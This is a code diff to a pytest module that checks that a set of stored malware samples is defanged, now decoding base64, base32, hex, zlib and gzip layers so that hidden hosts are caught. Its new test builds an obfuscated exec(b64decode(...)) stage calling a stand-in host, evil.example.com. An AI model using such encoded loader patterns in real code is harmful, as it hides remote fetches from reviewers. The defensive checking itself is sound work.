@@ -7,12 +7,14 @@ from __future__ import annotations
 
 import ast
 import base64
+import gzip
 import hashlib
 import io
 import ipaddress
 import re
 import tarfile
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -130,16 +132,65 @@ def _check_wheel(sample: Sample, data: bytes) -> None:
 def test_sample_is_defanged(sample: Sample) -> None:
     """Every URL or connect target points at a reserved name, a documentation IP, or a service
     whose kind matters (with placeholder credentials)."""
-    for path, content in sample.files.items():
-        text = content.decode("utf-8", "replace")
-        for host in re.findall(r"https?://([A-Za-z0-9.-]+)", text):
-            assert _harmless_host(host), f"{path}: {host}"
-        for address in re.findall(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b", text):
-            ip = ipaddress.ip_address(address)
-            assert ip.is_unspecified or ip == _METADATA_IP or any(
-                ip in n for n in _DOCUMENTATION_NETS), address
-        for token in re.findall(r"discord\.com/api/webhooks/([^\"']+)", text):
-            assert "defanged" in token, token
+    for path, stored in sample.files.items():
+        # A gzipped resource is read as its text.
+        content = gzip.decompress(stored) if stored.startswith(b"\x1f\x8b") else stored
+        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)  # "chunk" "chunk" literals
+        for text in (content.decode("utf-8", "replace"), *_decoded_layers(joined)):
+            _check_defanged_text(path, text)
+
+
+def _check_defanged_text(path: str, text: str) -> None:
+    for host in re.findall(r"https?://([A-Za-z0-9.-]+)", text):
+        assert _harmless_host(host), f"{path}: {host}"
+    for address in re.findall(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b", text):
+        ip = ipaddress.ip_address(address)
+        assert ip.is_unspecified or ip == _METADATA_IP or any(
+            ip in n for n in _DOCUMENTATION_NETS), address
+    for token in re.findall(r"discord\.com/api/webhooks/([^\"']+)", text):
+        assert "defanged" in token, token
+
+
+_ENCODED = re.compile(rb"[A-Za-z0-9+/=_-]{40,}")
+
+
+def _decoded_layers(content: bytes, depth: int = 3) -> list[str]:
+    """Text hidden in long base64/base32/hex literals (and zlib/gzip inside), decoded up to
+    `depth` layers: an encoded stage must be defanged too. Decoding is not running."""
+    found: list[str] = []
+    if depth == 0:
+        return found
+    for token in _ENCODED.findall(content):
+        for decode in (base64.b64decode, base64.b32decode, _from_hex):
+            try:
+                raw = decode(token)
+            except ValueError:
+                continue
+            for unpack in (lambda b: b, zlib.decompress, gzip.decompress):
+                try:
+                    data = unpack(raw)
+                except (OSError, EOFError, zlib.error):
+                    continue
+                text = data.decode("utf-8", "replace")
+                if sum(c.isprintable() or c in "\n\t" for c in text) > 0.95 * len(text):
+                    found.append(text)
+                    found += _decoded_layers(data, depth - 1)
+    return found
+
+
+def test_defanging_check_sees_through_encoded_stages() -> None:
+    stage = b'urlopen("https://evil.example.com/x")'
+    hidden = base64.b64encode(zlib.compress(stage)).decode()
+    chunked = '"' + '"\n    "'.join(hidden[i:i + 16] for i in range(0, len(hidden), 16)) + '"'
+    for content in (f"exec(b64decode('{hidden}'))".encode(), chunked.encode()):
+        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)
+        assert any("evil.example.com" in text for text in _decoded_layers(joined))
+    with pytest.raises(AssertionError):
+        _check_defanged_text("x.py", stage.decode())
+
+
+def _from_hex(token: bytes) -> bytes:
+    return bytes.fromhex(token.decode())
 
 
 def _harmless_host(host: str) -> bool:
